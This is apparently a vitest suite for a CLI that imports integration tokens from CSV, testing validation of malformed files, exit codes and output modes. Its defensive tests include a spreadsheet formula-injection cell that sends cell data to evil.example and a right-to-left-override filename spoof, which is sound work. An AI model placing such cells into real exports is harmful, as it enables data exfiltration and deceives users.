// `ferry migrate tokens` against a corpus of awkward and malformed CSVs: each case gives
// the exit code, and for every bad row the row number, the field and the message, both on
// stderr and in the results file (step validate, status failed). Runs in-process against
// the sandbox and service started in this process (no worker), mostly with --dry-run.
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ferry } from '../helpers/in-process.js';
import { tempDir } from '../helpers/service.js';
import { byRow, leakedSecrets, makeTenants, readResults, secretsOf, tokensCsv, type ResultRow } from './support.js';
import { type Harness, startTestStack } from '../helpers/stack.js';

const H = 'companyName,externalId,platformKey,accessToken,refreshToken,tenantId';
/** A row that passes validation (a dry run never shows the tokens to the platform). */
const ok = (name: string, ext = '') => `${name},${ext},gbol,at_x,rt_x,tid_x`;
const lines = (...rows: string[]) => `${rows.join('\n')}\n`;
const UUID_1 = '6f1c2a52-3c5e-4a3b-9d0e-1f2a3b4c5d6e';

/** A problem the case expects: on stderr as `row N, field: …text…`, in the results file as `field: …text…`. */
interface Problem {
  row: number;
  field: string;
  text: string;
}

interface Case {
  name: string;
  csv: string | Buffer;
  args?: string[];
  code: number;
  problems?: Problem[];
  /** Rows expected to be valid (status valid in the results). */
  valid?: number[];
  /** Fields of the results file to check, by row. */
  results?: Record<number, Partial<ResultRow>>;
  /** For usage errors: text on stderr (no results file is written). */
  stderr?: string[];
}

const cases: Case[] = [
  {
    name: 'a UTF-8 BOM before the header',
    csv: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(lines(H, ok('Acme Ltd', 'e1'), ok('Bolt plc', 'e2')))]),
    code: 0,
    valid: [2, 3],
    results: { 2: { companyName: 'Acme Ltd', externalId: 'e1' } },
  },
  {
    name: 'CRLF line endings (the last column carries no stray \\r)',
    csv: ['externalId,platformKey,accessToken,refreshToken,tenantId,companyName', 'e1,gbol,a,r,t,Acme Ltd', 'e2,gbol,a,r,t,Bolt plc', ''].join('\r\n'),
    code: 0,
    valid: [2, 3],
    results: { 2: { companyName: 'Acme Ltd' }, 3: { companyName: 'Bolt plc' } },
  },
  {
    name: 'quoted commas, quotes and newlines inside fields (rows are records, not lines)',
    csv: lines(H, '"Smith, Jones & Co",e1,gbol,a,r,t', '"Two\nLines ""Quoted"" Ltd",e2,gbol,a,r,t', ',e3,gbol,a,r,t'),
    code: 3,
    valid: [2, 3],
    results: { 2: { companyName: 'Smith, Jones & Co' }, 3: { companyName: 'Two\nLines "Quoted" Ltd' } },
    problems: [{ row: 4, field: 'companyName', text: 'companyName is required (or companyId of an existing company)' }],
  },
  {
    name: '--delimiter ";"',
    csv: lines('companyName;externalId;platformKey;accessToken;refreshToken;tenantId', 'Acme, Ltd;e1;gbol;a;r;t', ';e2;gbol;a;r;t'),
    args: ['--delimiter', ';'],
    code: 3,
    valid: [2],
    results: { 2: { companyName: 'Acme, Ltd' } },
    problems: [{ row: 3, field: 'companyName', text: 'companyName is required' }],
  },
  {
    name: '--delimiter tab',
    csv: lines(H.replaceAll(',', '\t'), 'Acme, Ltd\te1\tgbol\ta\tr\tt', 'Bolt\te2\tgbol\ta\tr\tt'),
    args: ['--delimiter', 'tab'],
    code: 0,
    valid: [2, 3],
    results: { 2: { companyName: 'Acme, Ltd' } },
  },
  {
    name: '--delimiter "\\t" (as typed in a shell)',
    csv: lines(H.replaceAll(',', '\t'), 'Acme\te1\tgbol\ta\tr\tt'),
    args: ['--delimiter', '\\t'],
    code: 0,
    valid: [2],
  },
  {
    name: 'headers in other case, order and spacing',
    csv: lines(' TENANTID ,access_token,Refresh-Token,PLATFORMKEY,Company Name, External Id', 't,a,r,GBOL,Acme Ltd,e1'),
    code: 0,
    valid: [2],
    results: { 2: { companyName: 'Acme Ltd', externalId: 'e1', platformKey: 'gbol' } },
  },
  {
    name: 'missing companyName (and no companyId)',
    csv: lines(H, ok('Acme', 'e1'), ',e2,gbol,a,r,t', ok('  ', 'e3')),
    code: 3,
    valid: [2],
    problems: [
      { row: 3, field: 'companyName', text: 'companyName is required (or companyId of an existing company)' },
      { row: 4, field: 'companyName', text: 'companyName is required' },
    ],
  },
  {
    name: 'an unknown platform',
    csv: lines(H, ok('Acme', 'e1'), 'Bolt,e2,zzzz,a,r,t'),
    code: 3,
    valid: [2],
    problems: [{ row: 3, field: 'platformKey', text: '"zzzz" is not an integration key (see ferry integrations list)' }],
  },
  {
    name: 'a managed-only platform points to ferry managed',
    csv: lines('companyName,externalId,platformKey,accessToken,refreshToken,realmId', 'Acme,e1,qhyg,a,r,realm-1'),
    code: 3,
    problems: [{ row: 2, field: 'platformKey', text: 'QuickBooks Online tokens are migrated by the support team: use ferry managed' }],
  },
  {
    name: 'a required token field left empty',
    csv: lines(H, ok('Acme', 'e1'), 'Bolt,e2,gbol,a,,t'),
    code: 3,
    valid: [2],
    problems: [{ row: 3, field: 'refreshToken', text: 'refreshToken is required for Xero' }],
  },
  {
    name: 'a required token column missing from the header',
    csv: lines('companyName,platformKey,accessToken,refreshToken', 'Acme,gbol,a,r'),
    code: 3,
    problems: [{ row: 2, field: 'tenantId', text: 'tenantId is required for Xero' }],
  },
  {
    name: 'another integration\'s token field is a row problem where it has a value',
    csv: lines(`${H},realmId`, `${ok('Acme', 'e1')},`, `${ok('Core', 'e3')},realm-1`),
    code: 3,
    valid: [2],
    problems: [{ row: 3, field: 'realmId', text: 'realmId is not a token field of Xero (expected accessToken, refreshToken, tenantId, expiresAt)' }],
  },
  {
    name: 'a column no integration has is one header error, with the column it most likely meant',
    csv: lines(`${H},clientSecret,refresh_tok`, `${ok('Acme', 'e1')},s3cret,r`),
    code: 2,
    stderr: ['The header has 2 columns ferry does not know: clientSecret, refresh_tok (did you mean refreshToken?).', 'hint: Rename or remove it'],
  },
  {
    name: 'a duplicate externalId names the first row',
    csv: lines(H, ok('Acme', 'e1'), ok('Bolt', 'e2'), ok('Core', 'e1')),
    code: 3,
    valid: [2, 3],
    problems: [{ row: 4, field: 'externalId', text: 'duplicate of row 2: externalId e1 appears twice' }],
  },
  {
    name: 'a duplicate companyName + platform (any case and spacing) names the first row',
    csv: lines(H, ok('Acme  Ltd'), ok('Bolt'), ok(' acme ltd ')),
    code: 3,
    valid: [2, 3],
    problems: [{ row: 4, field: 'companyName', text: 'duplicate of row 2: companyName "acme ltd" with gbol appears twice' }],
  },
  {
    name: 'malformed tags',
    csv: lines(
      `${H},tags`,
      `${ok('Good', 'e0')},region=eu;tier=gold`,
      `${ok('A', 'e1')},a`,
      `${ok('B', 'e2')},=b`,
      `${ok('C', 'e3')},${'k'.repeat(28)}=1`,
      `${ok('D', 'e4')},"${Array.from({ length: 10 }, (_, i) => `t${i}=${i}`).join(';')}"`,
      `${ok('E', 'e5')},ferryKey=mine`,
      `${ok('F', 'e6')},x=1;x=2`,
    ),
    code: 3,
    valid: [2],
    problems: [
      { row: 3, field: 'tags', text: '"a" is not key=value (tags look like region=eu;tier=gold)' },
      { row: 4, field: 'tags', text: '"=b" is not key=value' },
      { row: 5, field: 'tags', text: `tag key "${'k'.repeat(28)}" is longer than 27 characters` },
      { row: 6, field: 'tags', text: 'at most 9 tags per row (a company holds 10, one is ferryKey)' },
      { row: 7, field: 'tags', text: 'ferryKey is set by ferry itself' },
      { row: 8, field: 'tags', text: 'tag x is given twice' },
    ],
  },
  {
    name: 'a wrong field count (too few and too many)',
    csv: lines(H, ok('Acme', 'e1'), 'Bolt,e2,gbol,a,r', `${ok('Core', 'e3')},extra`),
    code: 3,
    valid: [2],
    problems: [
      { row: 3, field: 'row', text: 'has 5 fields but the header has 6 (a quote or delimiter out of place?)' },
      { row: 4, field: 'row', text: 'has 7 fields but the header has 6' },
    ],
  },
  {
    name: 'a bad companyId, and a connectionId without one',
    csv: lines(`${H},companyId,connectionId`, `${ok('', 'e1')},not-a-uuid,`, `${ok('Bolt', 'e2')},,${UUID_1}`, `${ok('', 'e3')},${UUID_1},`),
    code: 3,
    valid: [4],
    problems: [
      { row: 2, field: 'companyId', text: '"not-a-uuid" is not a company id (a UUID)' },
      { row: 3, field: 'connectionId', text: 'connectionId needs the companyId of the company it belongs to' },
    ],
  },
  {
    name: '--platform when the file has no platformKey column',
    csv: lines('companyName,externalId,accessToken,refreshToken,tenantId', 'Acme,e1,a,r,t'),
    args: ['--platform', 'GBOL'],
    code: 0,
    valid: [2],
    results: { 2: { platformKey: 'gbol' } },
  },
  {
    name: 'no platformKey column and no --platform',
    csv: lines('companyName,externalId,accessToken,refreshToken,tenantId', 'Acme,e1,a,r,t'),
    code: 3,
    problems: [{ row: 2, field: 'platformKey', text: 'platformKey is required (add the column, or give --platform KEY)' }],
  },
  {
    name: 'values over the service\'s limits are row-level validate errors, before anything is written',
    csv: lines('companyName,externalId,platformKey,accessToken,refreshToken,tenantId,description',
      `${'N'.repeat(256)},e1,gbol,a,r,t,`,
      `Acme,e2,gbol,${'a'.repeat(8193)},r,t,`,
      `Bolt,e3,gbol,a,r,t,${'d'.repeat(1001)}`,
      'Core,e4,gbol,a\u0000b,r,t,',
      'Dyn,e5,gbol,a,"r\nr",t,',
      'Edge,e6,gbol,a,r,t,',
      'Invoices \u202Efdp.exe,e7,gbol,a,r,t,'),
    code: 3,
    valid: [7],
    problems: [
      { row: 2, field: 'companyName', text: 'companyName is longer than 255 characters (256)' },
      { row: 3, field: 'accessToken', text: 'accessToken is longer than 8192 characters' },
      { row: 4, field: 'description', text: 'description is longer than 1000 characters (1001)' },
      { row: 5, field: 'accessToken', text: 'accessToken contains a control character' },
      { row: 6, field: 'refreshToken', text: 'refreshToken contains a control character' },
      { row: 8, field: 'companyName', text: 'companyName contains the invisible format character U+202E' },
    ],
  },
  {
    name: 'a header and no rows is a usage error',
    csv: lines(H),
    code: 2,
    stderr: ['The file has a header but no rows.'],
  },
  {
    name: 'an unclosed quote is a usage error naming the row',
    csv: lines(H, ok('Acme', 'e1'), '"Bolt,e2,gbol,a,r,t', ok('Core', 'e3')),
    code: 2,
    stderr: ['The CSV is malformed near row 3', 'Quote Not Closed', 'hint: Check the quoting and the delimiter (--delimiter).'],
  },
  {
    name: 'a quote in the middle of a field is a usage error naming the row, like an unclosed one',
    csv: lines(H, ok('Acme', 'e1'), 'Bo"lt,e2,gbol,a,r,t', ok('Core', 'e3')),
    code: 2,
    stderr: ['The CSV is malformed near row 3', 'Invalid Opening Quote', 'hint: Check the quoting and the delimiter (--delimiter).'],
  },
  {
    name: 'a Latin-1 file stops at its first byte that is not UTF-8, naming the line and offset',
    csv: Buffer.concat([Buffer.from(lines(H, ok('Acme', 'e1'))), Buffer.from('Caf\xe9 Ltd,e2,gbol,a,r,t\n', 'latin1')]),
    code: 2,
    stderr: [`Line 3 is not valid UTF-8 (byte offset ${Buffer.byteLength(lines(H, ok('Acme', 'e1'))) + 3})`, 'hint: Give --encoding latin1, or save the file as UTF-8.'],
  },
  {
    name: '--encoding latin1 reads a Latin-1 file without losing a character',
    csv: Buffer.from(lines(H, 'Caf\xe9 Ltd,e1,gbol,a,r,t', '\xc5ngstr\xf6m AB,e2,gbol,a,r,t'), 'latin1'),
    args: ['--encoding', 'latin1'],
    code: 0,
    valid: [2, 3],
    results: { 2: { companyName: 'Café Ltd' }, 3: { companyName: 'Ångström AB' } },
  },
  {
    name: 'an empty file is a usage error',
    csv: '',
    code: 2,
    stderr: ['The file is empty: it needs a header row and at least one row.'],
  },
  {
    name: 'a column named twice is a usage error',
    csv: lines(`${H},Access Token`, `${ok('Acme', 'e1')},a2`),
    code: 2,
    stderr: ['The header names a column twice: Access Token.'],
  },
];

let harness: Harness;
let keyFile: string;
let dir: string;

beforeAll(async () => {
  harness = await startTestStack('fake-clocks');
  dir = tempDir('ferry-migrate-corpus-');
  keyFile = join(dir, 'admin.key');
  writeFileSync(keyFile, harness.adminKey, { mode: 0o600 });
});

afterAll(async () => {
  await harness?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const target = () => ['--base-url', harness.baseUrl, '--api-key-file', keyFile];

function writeInput(name: string, csv: string | Buffer): string {
  const path = join(dir, `${name.replace(/[^a-z0-9]+/gi, '-').slice(0, 60)}.csv`);
  writeFileSync(path, csv);
  return path;
}

describe('migrate tokens: malformed and awkward CSVs (--dry-run)', () => {
  it.each(cases)('$name', async (c) => {
    const input = writeInput(c.name, c.csv);
    const results = `${input}.results.csv`;
    const run = await ferry([...target(), 'migrate', 'tokens', input, '--dry-run', '--results', results, ...(c.args ?? [])]);
    expect(run.code, run.stderr).toBe(c.code);

    if (c.code === 2) {
      for (const text of c.stderr ?? []) expect(run.stderr).toContain(text);
      expect(run.stdout).toBe('');
      return;
    }
    expect(run.stdout.trim()).toBe(results);
    const rows = byRow(readResults(results));
    const problems = c.problems ?? [];
    // Every row of the file is in the results once: the valid ones and the problem rows.
    const expectedRows = [...new Set([...(c.valid ?? []), ...problems.map((p) => p.row)])].sort((a, b) => a - b);
    expect([...rows.keys()].sort((a, b) => a - b)).toEqual(expectedRows);
    for (const row of c.valid ?? []) expect(rows.get(row), `row ${row}`).toMatchObject({ status: 'valid', step: '', error: '' });
    for (const p of problems) {
      expect(run.stderr).toContain(`row ${p.row}, ${p.field}: ${p.text}`);
      expect(rows.get(p.row), `row ${p.row}`).toMatchObject({ status: 'failed', step: 'validate' });
      expect(rows.get(p.row)!.error).toContain(`${p.field}: ${p.text}`);
    }
    for (const [row, fields] of Object.entries(c.results ?? {})) expect(rows.get(Number(row))).toMatchObject(fields);

    const invalid = new Set(problems.map((p) => p.row)).size;
    if (invalid > 0) {
      expect(run.stderr).toContain(`${invalid} of ${expectedRows.length} rows are not valid`);
      expect(run.stderr).toContain(`error: ${invalid} row${invalid === 1 ? '' : 's'} not valid; see ${results}.`);
      expect(run.stderr).toContain(`Next: fix the rows listed in ${results}, then run again`);
    } else {
      const valid = c.valid!.length;
      expect(run.stderr).toContain(`Dry run: ${valid} valid row${valid === 1 ? '' : 's'} of ${valid}; nothing was written.`);
    }
    // A dry run writes no journal and creates nothing.
    expect(() => readFileSync(`${results}.journal`)).toThrow();
  });
});

describe('migrate tokens: CSV cells a spreadsheet would run', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const names = [FORMULA, '-Acme', '@SUM(1+1)', '+44 Ltd', '-12.50'];
  const input = async (seed: number) => {
    const tenants = await makeTenants(harness.sandboxUrl, names.length, { seed });
    return { tenants, csv: tokensCsv(tenants.map((t, i) => ({ ...t, name: names[i]! }))) };
  };

  it('neutralises them in the results file; a rerun finds the same companies; --no-csv-escape keeps them raw', async () => {
    const { csv } = await input(7501);
    const path = writeInput('formulas', csv);
    const results = join(dir, 'formulas.results.csv');
    const run = await ferry([...target(), 'migrate', 'tokens', path, '--yes', '--results', results]);
    expect(run.code, run.stderr).toBe(0);
    const rows = byRow(readResults(results));
    expect([2, 3, 4, 5, 6].map((r) => rows.get(r)!.companyName)).toEqual([`'${FORMULA}`, "'-Acme", "'@SUM(1+1)", "'+44 Ltd", '-12.50']);
    for (const r of [2, 3, 4, 5, 6]) expect(rows.get(r)!.status).toBe('migrated');

    const again = await ferry([...target(), 'migrate', 'tokens', path, '--yes', '--results', results, '--no-csv-escape']);
    expect(again.code, again.stderr).toBe(0);
    const raw = byRow(readResults(results));
    expect([2, 3, 4, 5, 6].map((r) => raw.get(r)!.companyName)).toEqual(names);
    const ids = [2, 3, 4, 5, 6].map((r) => raw.get(r)!.companyId);
    expect(ids).toEqual([2, 3, 4, 5, 6].map((r) => rows.get(r)!.companyId));
  });

  it('says no "Next: ferry sync" when no row migrated', async () => {
    const path = writeInput('none-migrated', lines(H, `Acme,e-none-1,gbol,${'a'.repeat(9000)},r,t`));
    const results = join(dir, 'none-migrated.results.csv');
    const run = await ferry([...target(), 'migrate', 'tokens', path, '--yes', '--results', results]);
    expect(run.code).toBe(3);
    expect(run.stderr).not.toContain('ferry sync');
    expect(run.stderr).toContain(`Next: fix the rows listed in ${results}`);
  });
});

describe('migrate tokens: validation on a real run, and the output modes', () => {
  it('migrates the valid rows, records the invalid ones as failed at validate, exit 3', async () => {
    const tenants = await makeTenants(harness.sandboxUrl, 3, { seed: 7001 });
    const bad = `Broken Ltd,broken-1,gbol,${tenants[0]!.tokens.accessToken},,${tenants[0]!.tokens.tenantId}`;
    const [header, ...rows] = tokensCsv(tenants).trimEnd().split('\n');
    const input = writeInput('real-run', lines(header!, rows[0]!, bad, rows[1]!, rows[2]!));
    const results = join(dir, 'real-run.results.csv');
    const run = await ferry([...target(), 'migrate', 'tokens', input, '--yes', '--results', results]);
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toContain('row 3, refreshToken: refreshToken is required for Xero');
    expect(run.stderr).toMatch(/Migrated 3 · skipped 0 · failed 1 \(validate 1\)/);
    expect(run.stderr).toContain(`error: 1 row failed; see ${results}.`);
    const byNumber = byRow(readResults(results));
    expect([...byNumber.keys()].sort()).toEqual([2, 3, 4, 5]);
    expect(byNumber.get(3)).toMatchObject({ status: 'failed', step: 'validate', externalId: 'broken-1', companyId: '', connectionId: '' });
    for (const row of [2, 4, 5]) expect(byNumber.get(row)).toMatchObject({ status: 'migrated', step: '' });
    const text = readFileSync(results, 'utf8') + readFileSync(`${results}.journal`, 'utf8') + run.stdout + run.stderr;
    expect(leakedSecrets(text, secretsOf(tenants))).toEqual([]);
  });

  it('a changed input cannot be resumed from the old journal (exit 2, with a way out)', async () => {
    const tenants = await makeTenants(harness.sandboxUrl, 2, { seed: 7101 });
    const input = writeInput('changed', tokensCsv(tenants));
    const results = join(dir, 'changed.results.csv');
    const first = await ferry([...target(), 'migrate', 'tokens', input, '--yes', '--results', results]);
    expect(first.code, first.stderr).toBe(0);
    writeFileSync(input, `${tokensCsv(tenants)}${ok('Added Later Ltd', 'added-1')}\n`);
    const again = await ferry([...target(), 'migrate', 'tokens', input, '--yes', '--results', results]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain(`error: The input changed since ${results}.journal was written, so it cannot be resumed safely.`);
    expect(again.stderr).toContain('hint: Fixed the failed rows? Add --retry-failed');
    expect(again.stderr).toContain('give a new --results path or remove');
    expect(byRow(readResults(results)).size).toBe(2);
  });

  it('--json: one document on stdout with the problems; nothing but it on stdout', async () => {
    const input = writeInput('json-mode', lines(H, ok('Acme', 'e1'), 'Bolt,e2,zzzz,a,r,t'));
    const results = join(dir, 'json-mode.results.csv');
    const run = await ferry([...target(), '--json', 'migrate', 'tokens', input, '--dry-run', '--results', results]);
    expect(run.code).toBe(3);
    const summary = JSON.parse(run.stdout);
    expect(summary).toMatchObject({
      dryRun: true, input, results, total: 2, failed: 1, failedBySteps: { validate: 1 },
      validation: { rows: 2, valid: 1, invalid: 1, inShard: 2, problems: [{ row: 3, problems: [{ field: 'platformKey', message: '"zzzz" is not an integration key (see ferry integrations list)' }] }] },
      dryRunReport: { existing: 0, toCreate: 1, plan: 'Paid' },
      next: `fix the rows listed in ${results}, then run again`,
    });
    expect(JSON.parse(run.stderr.trim().split('\n').at(-1)!)).toMatchObject({ error: { exitCode: 3, message: `1 row not valid; see ${results}.` } });
  });

  it('a usage error with --json is JSON on stderr, exit 2', async () => {
    const input = writeInput('json-usage', lines(H, '"Acme,e1,gbol,a,r,t'));
    const run = await ferry([...target(), '--json', 'migrate', 'tokens', input, '--dry-run', '--results', join(dir, 'json-usage.results.csv')]);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    const error = JSON.parse(run.stderr.trim().split('\n').at(-1)!).error;
    expect(error).toMatchObject({ exitCode: 2, hint: 'Check the quoting and the delimiter (--delimiter).' });
    expect(error.message).toContain('The CSV is malformed near row 2');
  });

  it('on a terminal: the same messages, and the results path on stdout', async () => {
    const input = writeInput('tty-mode', lines(H, ok('Acme', 'e1'), ok('Acme', 'e1')));
    const results = join(dir, 'tty-mode.results.csv');
    const run = await ferry([...target(), 'migrate', 'tokens', input, '--dry-run', '--results', results], { tty: true, env: { NO_COLOR: '1' } });
    expect(run.code).toBe(3);
    expect(run.stdout.trim()).toBe(results);
    expect(run.stderr).toContain('row 3, externalId: duplicate of row 2: externalId e1 appears twice');
  });

  it('bad flags and a missing file are usage errors (exit 2)', async () => {
    const input = writeInput('flags', lines(H, ok('Acme', 'e1')));
    const checks: Array<[string[], string]> = [
      [['--delimiter', ';;'], '--delimiter takes one character (or "tab").'],
      [['--concurrency', '0'], '--concurrency must be a whole number of at least 1.'],
      [['--max-rate', '0'], '--max-rate must be a number above 0, e.g. --max-rate 50.'],
      [['--max-rate', 'fast'], '--max-rate must be a number above 0'],
      [['--shard', '3/2'], '--shard takes I/N with 1 <= I <= N'],
      [['--resume', '--results', join(dir, 'never.csv')], 'Nothing to resume'],
    ];
    for (const [args, message] of checks) {
      const run = await ferry([...target(), 'migrate', 'tokens', input, '--yes', ...args]);
      expect(run.code, args.join(' ')).toBe(2);
      expect(run.stderr).toContain(message);
    }
    const missing = await ferry([...target(), 'migrate', 'tokens', join(dir, 'nope.csv'), '--dry-run']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('nope.csv does not exist.');
  });

  it('without --yes and without a terminal, a real run asks for --yes instead of prompting', async () => {
    const input = writeInput('no-yes', lines(H, ok('Acme', 'e1')));
    const run = await ferry([...target(), 'migrate', 'tokens', input, '--results', join(dir, 'no-yes.results.csv')]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('--yes');
  });
});
